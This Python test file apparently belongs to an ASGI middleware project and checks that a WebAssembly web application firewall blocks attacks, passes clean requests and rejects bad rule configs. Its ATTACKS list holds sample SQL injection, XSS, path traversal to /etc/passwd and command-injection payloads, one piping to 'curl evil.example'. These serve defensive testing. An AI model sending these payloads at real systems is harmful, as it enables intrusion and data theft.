"""The heavy guests: the WAF guest (guests/go/waf) in front of an app with a small rule set and with
the generated heavy one (guests/go/waf/rules.py), its config errors, and the synthetic
guests/wat/heavy_init.wat (80 MiB and a slow `_initialize`).

Every guest here gets `memory_limit=256 MiB` and a generous `call_timeout`: their inits are meant to be
heavy (tens of MiB, hundreds of ms of CPU), and a loaded test machine must not turn that into a failure.
They run their own init, not a snapshot of it, where the host can snapshot guests: the guests are what
is tested here, and every new config would cost a compilation of its snapshot.
"""

from __future__ import annotations

import importlib.util
import inspect
import json
import logging
import re
import runpy
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any
from urllib.parse import unquote, unquote_plus

import httpx
import pytest

from http_wasm_asgi import Guest, GuestError, HttpWasmMiddleware
from http_wasm_asgi.testing import echo_app
from support import ROOT, WAT
from support.attack import idle_instance

MiB = 1024 * 1024
WAF = ROOT / "guests" / "go" / "waf" / "waf.wasm"
NO_SNAPSHOT: dict[str, Any] = {"snapshot": False} if "snapshot" in inspect.signature(Guest).parameters else {}
HEAVY_OPTIONS: dict[str, Any] = {"memory_limit": 256 * MiB, "call_timeout": 30.0, **NO_SNAPSHOT}


def load_rules_module() -> ModuleType:
    spec = importlib.util.spec_from_file_location("waf_rules", ROOT / "guests" / "go" / "waf" / "rules.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


rules = load_rules_module()

# After the attack rules: rules that exercise the prefilter's corners (case folding beyond ASCII,
# a regex without literals, a phrase list).
EXTRA_RULES: list[dict[str, Any]] = [
    {"id": 5001, "target": "args", "regex": "(?i)kelvinium"},
    {"id": 5002, "target": "args|body", "regex": "(?i)ssecret_dump"},
    {"id": 5003, "target": "headers", "regex": r"^\d{12,}$"},
    {"id": 5004, "target": "body", "phrases": ["Forbidden Phrase", "xyzzy-plugh"]},
]
SMALL = {"rules": [*rules.ATTACK_RULES, *EXTRA_RULES]}


def waf_guest(config: Any, name: str = "waf", **options: Any) -> Guest:
    if not WAF.exists():
        pytest.fail(f"{WAF} is missing: build it with `python guests/build.py go`")
    return Guest(WAF, name=name, config=config, **(HEAVY_OPTIONS | options))


@pytest.fixture(scope="module")
def small_guest() -> Iterator[Guest]:
    guest = waf_guest(SMALL)
    yield guest
    guest.close()


@pytest.fixture(scope="module")
def heavy_config() -> dict[str, Any]:
    config: dict[str, Any] = rules.heavy()
    return config


@pytest.fixture(scope="module")
def heavy_guest(heavy_config: dict[str, Any]) -> Iterator[Guest]:
    guest = waf_guest(heavy_config, name="waf_heavy")
    yield guest
    guest.close()


@pytest.fixture(params=["small", "heavy"])
def waf(request: pytest.FixtureRequest) -> Guest:
    guest: Guest = request.getfixturevalue(f"{request.param}_guest")
    return guest


def waf_lines(caplog: pytest.LogCaptureFixture) -> list[tuple[int, str]]:
    return [(r.levelno, r.getMessage()) for r in caplog.records
            if r.name.startswith("http_wasm_asgi.guest.") and r.getMessage().startswith("waf: ")]


FORM = {"content-type": "application/x-www-form-urlencoded"}

# (what, request arguments, rule id, target)
ATTACKS = [
    ("sqli tautology in a query arg", {"url": "/items", "params": {"id": "1' OR '1'='1"}}, 942100, "args"),
    ("xss in a query arg", {"url": "/search", "params": {"q": "<script>alert(1)</script>"}}, 941100, "args"),
    ("traversal in a query arg", {"url": "/download", "params": {"file": "../../etc/passwd"}}, 930100, "args"),
    ("union select in a query arg", {"url": "/items", "params": {"id": "1 UNION ALL SELECT password"}}, 942110,
     "args"),
    ("encoded traversal in the path", {"url": "/static/..%2f..%2fetc/passwd"}, 930100, "uri"),
    ("restricted file in the path", {"url": "/.git/config"}, 930130, "uri"),
    ("xss in the path", {"url": "/page/%3Cscript%3Ealert(1)%3C/script%3E"}, 941100, "uri"),
    ("xss in a header", {"url": "/", "headers": {"user-agent": "<script>alert(1)</script>"}}, 941100, "headers"),
    ("sqli in a header", {"url": "/", "headers": {"referer": "x' OR 'a'='a"}}, 942100, "headers"),
    ("scanner user agent", {"url": "/", "headers": {"user-agent": "sqlmap/1.7.2#stable"}}, 913100, "headers"),
    ("xss in a json body", {"method": "POST", "url": "/comments",
                            "json": {"comment": "<script>alert(1)</script>"}}, 941100, "body"),
    ("encoded xss in a form body", {"method": "POST", "url": "/comments", "headers": FORM,
                                    "content": "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}, 941100, "body"),
    ("sqli in a text body", {"method": "POST", "url": "/login",
                             "content": "name=x' UNION SELECT password FROM users--"}, 942110, "body"),
    ("traversal in a body", {"method": "POST", "url": "/upload", "content": "path=../../etc/passwd"}, 930100, "body"),
    ("command injection in a query arg", {"url": "/ping", "params": {"host": "127.0.0.1; cat /etc/hosts"}},
     930120, "args"),  # /etc/hosts: the file rule comes first
    ("command injection with a download", {"url": "/ping", "params": {"host": "x | curl evil.example"}}, 932100,
     "args"),
]


@pytest.mark.parametrize(("what", "request_args", "rule_id", "target"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_attacks_get_403_and_a_log_line_naming_the_rule(
        client: Any, guest_logs: pytest.LogCaptureFixture, waf: Guest,
        what: str, request_args: dict[str, Any], rule_id: int, target: str) -> None:
    args = {"method": "GET"} | request_args
    r = await client(HttpWasmMiddleware(echo_app, guests=[waf])).request(**args)
    assert r.status_code == 403, (what, r.text[:200])
    assert r.text == "forbidden: the request was blocked\n"
    assert "x-echo" not in r.headers  # the app never ran
    assert waf_lines(guest_logs) == [(logging.WARNING, f"waf: rule {rule_id} matched in {target}")]


CLEAN = [
    {"method": "GET", "url": "/products", "params": {"color": "red", "size": "10", "sort": "price-asc"}},
    {"method": "GET", "url": "/search", "params": {"q": "select a size from the list, or order by phone"}},
    {"method": "GET", "url": "/docs/api/v2/index.html", "headers": {"referer": "https://example.com/a?b=c",
                                                                   "accept-language": "en-US,en;q=0.9"}},
    {"method": "POST", "url": "/comments", "json": {"comment": "Great product; I'd buy it again (5/5) <3",
                                                    "rating": 5, "tags": ["kitchen", "script writing"]}},
    {"method": "POST", "url": "/login", "headers": FORM, "content": "user=alice&password=s3cr%21t&remember=on"},
    {"method": "PUT", "url": "/notes/7", "content": "Meeting notes: update the select list, then drop by at 5.\n" * 50},
]


@pytest.mark.parametrize("request_args", CLEAN, ids=[f"{c['method']} {c['url']}" for c in CLEAN])
async def test_clean_requests_reach_the_app_unchanged(
        client: Any, guest_logs: pytest.LogCaptureFixture, waf: Guest, request_args: dict[str, Any]) -> None:
    c = client(HttpWasmMiddleware(echo_app, guests=[waf]))
    sent = c.build_request(**request_args)
    r = await c.send(sent)
    assert r.status_code == 200, r.text[:300]
    seen = r.json()
    assert seen["body"] == sent.content.decode()  # buffered for the guest, and the app still gets all of it
    assert seen["method"] == sent.method and seen["path"] == sent.url.path
    assert seen["query_string"] == sent.url.query.decode()
    assert waf_lines(guest_logs) == []


@pytest.mark.parametrize(("request_args", "rule_id", "target"), [
    ({"url": "/", "params": {"q": "\u212aELVINIUM"}}, 5001, "args"),  # (?i)k matches U+212A KELVIN SIGN
    ({"url": "/", "params": {"q": "\u017f\u017fECRET_dump"}}, 5002, "args"),  # (?i)s matches U+017F LONG S
    ({"url": "/", "headers": {"x-account": "123456789012345"}}, 5003, "headers"),  # no literal: always run
    ({"method": "POST", "url": "/", "content": "it says FORBIDDEN phrase here"}, 5004, "body"),
], ids=["kelvin-sign", "long-s", "no-literal", "phrases"])
async def test_the_prefilter_lets_every_match_through(
        client: Any, guest_logs: pytest.LogCaptureFixture, small_guest: Guest,
        request_args: dict[str, Any], rule_id: int, target: str) -> None:
    r = await client(HttpWasmMiddleware(echo_app, guests=[small_guest])).request(**({"method": "GET"} | request_args))
    assert r.status_code == 403
    assert waf_lines(guest_logs) == [(logging.WARNING, f"waf: rule {rule_id} matched in {target}")]


async def test_near_misses_of_the_prefilter_rules_pass(client: Any, small_guest: Guest) -> None:
    c = client(HttpWasmMiddleware(echo_app, guests=[small_guest]))
    for params, headers in [({"q": "kelvin-ium"}, {}), ({"q": "secret_dump"}, {}), ({}, {"x-account": "12345678901"}),
                            ({"q": "forbidden phrase"}, {})]:  # phrases: body only
        assert (await c.get("/", params=params, headers=headers)).status_code == 200, (params, headers)


def test_the_waf_buffers_the_request_body_only_when_a_rule_reads_it(small_guest: Guest) -> None:
    assert small_guest.features & 1  # buffer_request, enabled at init
    uri_only = waf_guest({"rules": [{"id": 1, "target": "uri", "regex": r"\.\./"}]}, name="waf_uri")
    assert uri_only.features == 0


# --- the heavy rule set --------------------------------------------------------------------

def test_the_heavy_rule_set_is_as_big_as_a_real_one(heavy_config: dict[str, Any], heavy_guest: Guest) -> None:
    config_rules = heavy_config["rules"]
    assert len(config_rules) == rules.HEAVY_COUNT >= 3000
    assert len({rule["id"] for rule in config_rules}) == len(config_rules)
    assert config_rules[:len(rules.ATTACK_RULES)] == rules.ATTACK_RULES
    assert rules.heavy() == heavy_config  # deterministic
    # What init leaves behind (not how long it takes: that is measured, see rules.py).
    assert 50 * MiB <= idle_instance(heavy_guest).memory_size() < 120 * MiB


def reference_first_match(config: dict[str, Any], texts: dict[str, list[str]]) -> tuple[int, str] | None:
    """The guest's rule semantics in Python: the first rule, in order, that matches one of its targets' texts."""
    for rule in config["rules"]:
        if "regex" in rule:
            pattern = COMPILED.get(rule["regex"]) or COMPILED.setdefault(rule["regex"], re.compile(rule["regex"]))
            matches = pattern.search
        else:
            phrases = [phrase.lower() for phrase in rule["phrases"]]
            matches = lambda text, phrases=phrases: any(p in text.lower() for p in phrases)  # noqa: E731
        for target in ("args", "uri", "headers", "body"):
            if target in rule["target"].split("|") and any(matches(text) for text in texts.get(target, [])):
                return rule["id"], target
    return None


COMPILED: dict[str, re.Pattern[str]] = {}


def texts_of(request: httpx.Request) -> dict[str, list[str]]:
    """What the guest matches, for a GET request without a body."""
    raw = request.url.raw_path.decode()
    uri = [raw] + ([unquote(raw)] if unquote(raw) != raw else [])
    args = [unquote_plus(part) for arg in request.url.query.decode().split("&") if arg for part in arg.split("=", 1)]
    headers = [text for name, value in request.headers.items() for text in (name.lower(), value)]
    return {"uri": uri, "args": [a for a in args if a], "headers": headers}


def probes(config: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """(arg value, why): one word or phrase each of generated rules spread over the whole list."""
    generated = config["rules"][len(rules.ATTACK_RULES):]
    keyword_rules = [r for r in generated if r.get("regex", "").startswith(r"(?i)\b(?:") and r["regex"].endswith(
        r")\b") and "args" in r["target"]]
    phrase_rules = [r for r in generated if "phrases" in r and "args" in r["target"]]
    for rule in (keyword_rules[0], keyword_rules[len(keyword_rules) // 2], keyword_rules[-1]):
        yield rule["regex"].removeprefix(r"(?i)\b(?:").removesuffix(r")\b").split("|")[-1], f"rule {rule['id']}"
    for rule in (phrase_rules[0], phrase_rules[-1]):
        yield "x " + rule["phrases"][0].upper() + " y", f"rule {rule['id']}"


async def test_the_generated_rules_block_what_they_describe_first_match_wins(
        client: Any, guest_logs: pytest.LogCaptureFixture, heavy_config: dict[str, Any], heavy_guest: Guest) -> None:
    c = client(HttpWasmMiddleware(echo_app, guests=[heavy_guest]))
    for value, why in probes(heavy_config):
        guest_logs.clear()
        request = c.build_request("GET", "/lookup", params={"term": value})
        expected = reference_first_match(heavy_config, texts_of(request))
        assert expected is not None, why
        r = await c.send(request)
        assert r.status_code == 403, why
        assert waf_lines(guest_logs) == [(logging.WARNING, "waf: rule {} matched in {}".format(*expected))], why


# --- config errors --------------------------------------------------------------------------

GOOD = {"id": 1001, "target": "args", "regex": "evil"}


@pytest.mark.parametrize(("config", "reason"), [
    ({"rules": [GOOD, {"id": 1002, "target": "args|body", "regex": "(unclosed", "action": "deny"}]},
     "waf: bad config: rules[1] (id 1002): bad regex: error parsing regexp: missing closing ): `(unclosed`"),
    ({"rules": [GOOD, {"id": 1003, "target": "args", "regex": "a**"}]},
     "rules[1] (id 1003): bad regex: error parsing regexp: invalid nested repetition operator: `**`"),
    ({"rules": [GOOD, {"id": 1004, "target": "cookies", "regex": "x"}]},
     'rules[1] (id 1004): bad target "cookies": a |-separated set of args, uri, headers, body'),
    ({"rules": [GOOD, GOOD]}, "rules[1] (id 1001): duplicate id"),
    ({"rules": [{"target": "args", "regex": "x"}]}, 'rules[0]: "id" must be a positive integer'),
    ({"rules": [{"id": 7, "target": "args", "regex": "x", "action": "log"}]},
     'rules[0] (id 7): "action" must be "deny"'),
    ({"rules": [{"id": 8, "target": "args", "regex": "x", "phrases": ["y"]}]},
     'rules[0] (id 8): a rule has either "regex" (a string) or "phrases" (a list of strings)'),
    ({"rules": [{"id": 9, "target": "args", "phrases": []}]}, "rules[0] (id 9): an empty"),
    ({"rules": [{"id": 10, "target": "args", "phrases": ["ok", ""]}]},
     'rules[0] (id 10): "phrases" must be a list of non-empty strings'),
    ({"rule": []}, 'waf: bad config: unknown key "rule"'),
    ('{"rules": [', "waf: bad config: bad JSON: json:"),
], ids=["bad-regex", "bad-repetition", "bad-target", "duplicate-id", "no-id", "bad-action", "regex-and-phrases",
        "no-phrases", "empty-phrase", "unknown-key", "bad-json"])
def test_a_bad_config_is_a_load_error_naming_the_rule(config: Any, reason: str) -> None:
    with pytest.raises(GuestError) as error:
        waf_guest(config, name="waf_bad")
    message = str(error.value)
    assert "guest 'waf_bad'" in message
    assert reason in message


async def test_an_empty_config_blocks_nothing(client: Any) -> None:
    guest = waf_guest(b"", name="waf_empty")
    assert guest.features == 0
    r = await client(HttpWasmMiddleware(echo_app, guests=[guest])).get("/", params={"q": "<script>"})
    assert r.status_code == 200


# --- the synthetic heavy guest ----------------------------------------------------------------

HEAVY_WAT = WAT / "heavy_init.wat"
M64 = 2**64


def expected_sample() -> str:
    """The sum of every 4096th word of the pattern, word i = (i + 1) * 0x9E3779B97F4A7C15 mod 2^64."""
    return f"{sum((4096 * j + 1) * 0x9E3779B97F4A7C15 for j in range(2048)) % M64:016x}"


def expected_spin(steps: int = 150_000_000) -> str:
    """x -> x * a + c (mod 2^64), `steps` times from 1, by squaring the affine map."""
    a, c = 6364136223846793005, 1442695040888963407
    mul, add = 1, 0  # the composed map so far: x -> x * mul + add
    while steps:
        if steps & 1:
            mul, add = a * mul % M64, (a * add + c) % M64
        a, c = a * a % M64, (a * c + c) % M64
        steps >>= 1
    return f"{(mul + add) % M64:016x}"


@pytest.mark.parametrize("reuse", [True, False], ids=["reused", "fresh-per-request"])
async def test_heavy_init_guest_serves_from_its_initialized_state(client: Any, reuse: bool) -> None:
    guest = Guest(HEAVY_WAT, **HEAVY_OPTIONS, reuse_instances=reuse)
    if reuse:
        assert idle_instance(guest).memory_size() == 80 * MiB
    c = client(HttpWasmMiddleware(echo_app, guests=[guest]))
    for _ in range(2):  # without reuse the second request gets a newly initialized instance
        r = await c.get("/")
        assert r.status_code == 200
        assert r.headers["x-echo"] == "1"
        assert r.headers["x-heavy-sample"] == expected_sample()
        assert r.headers["x-heavy-spin"] == expected_spin()


def test_heavy_init_guest_does_not_fit_in_64_mib() -> None:
    with pytest.raises(GuestError, match="guest 'heavy_init'"):
        Guest(HEAVY_WAT, **(HEAVY_OPTIONS | {"memory_limit": 64 * MiB}))


def test_the_generator_prints_a_config(capsys: pytest.CaptureFixture[str]) -> None:
    argv = sys.argv
    sys.argv = ["rules.py", "20"]
    try:
        runpy.run_path(str(Path(rules.__file__)), run_name="__main__")
    finally:
        sys.argv = argv
    printed = json.loads(capsys.readouterr().out)
    assert printed == rules.generate(20)
    assert [rule["id"] for rule in printed["rules"][:3]] == [rule["id"] for rule in rules.ATTACK_RULES[:3]]
